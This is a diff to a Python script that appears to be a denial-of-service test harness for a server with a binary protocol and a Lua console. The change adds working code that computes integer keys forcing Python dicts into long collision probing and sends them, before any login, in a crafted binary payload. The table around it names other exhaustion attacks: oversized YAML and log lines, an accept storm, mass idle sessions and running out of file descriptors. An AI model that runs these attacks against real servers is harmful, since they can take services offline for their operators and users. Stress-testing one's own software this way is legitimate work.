@@ -194,11 +194,38 @@ def shown_as(mode, text, sessions=2):
     return attack
 
 
-def colliding_keys(server, seconds):
+def colliding_keys():
+    """Integers of which a dict of Python's takes each only after it has looked at some 20,000 others.
+
+    When a hash is used up, the dict goes on through all of its cells in one order. The first keys fill the cells from a
+    place on, in that order; the others are such that the dict meets full cells only, and then comes to that place.
+    """
+    size = 1 << 17
+    start = size // 3 + 10
+    filled, keys, cell = {}, [], 0
+    for number in range(start):
+        filled[cell] = number
+        keys.append(cell)
+        cell = (cell * 5 + 1) % size
+    key = size
+    while len(keys) < start + 40000:
+        key += 1
+        cell, rest = key % size, key
+        while cell in filled:
+            rest >>= 5
+            cell = (cell * 5 + rest + 1) % size
+            if not rest:
+                if filled.get(cell, start) < start // 2:
+                    keys.append(key)
+                break
+    return keys
+
+
+def colliding_requests(server, seconds):
     """Requests of the binary protocol, before a login, with keys that a dict of Python's looks for long."""
-    count = 50000
-    keys = b''.join(b'\xcf' + (number << 40 | 7).to_bytes(8, 'big') + b'\xc0' for number in range(1, count + 1))
-    payload = b'\x82\x00\x0a\x01\x01\x82\x22\xa1x\x21\x91\xdf' + count.to_bytes(4, 'big') + keys
+    keys = colliding_keys()
+    payload = (b'\x82\x00\x0a\x01\x01\x82\x22\xa1x\x21\x91\xdf' + len(keys).to_bytes(4, 'big')
+               + b''.join(b'\xce' + key.to_bytes(4, 'big') + b'\xc0' for key in keys))
     end = time.monotonic() + seconds
     sock = open_session(server.binary_address)
     while time.monotonic() < end:
@@ -302,7 +329,7 @@ def attacks(sessions):
         'long words as YAML': shown_as('yaml', "('ab '):rep(5e6)"),
         'YAML with long numbers': repeating("pcall(require('yaml').decode, ('1'):rep(1e5) .. 'x')"),
         'long lines for the log': repeating(r"print(('\255'):rep(1.5e7))"),
-        'keys that collide, before a login': colliding_keys,
+        'keys that collide, before a login': colliding_requests,
         'an accept storm': accept_storm,
         f'{sessions:,} idle sessions': idle_sessions(sessions),
         'no more files': no_more_files,
